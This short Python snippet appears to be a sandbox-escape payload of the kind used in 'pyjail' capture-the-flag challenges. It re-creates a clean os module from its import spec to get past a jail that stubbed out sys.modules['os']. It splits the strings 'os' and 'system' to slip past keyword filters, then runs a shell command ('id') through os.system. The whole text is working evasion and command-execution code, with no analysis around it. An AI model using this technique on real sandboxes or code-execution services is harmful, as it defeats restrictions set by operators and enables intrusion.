# Builds a brand-new copy of the os module from its spec and executes it,
# so a jail that replaced sys.modules['os'] with a stub is sidestepped.
u = __import__('importlib.util', fromlist=['x'])
spec = u.find_spec('o' + 's')
clean = u.module_from_spec(spec)
spec.loader.exec_module(clean)
getattr(clean, 'sys' 'tem')('id')
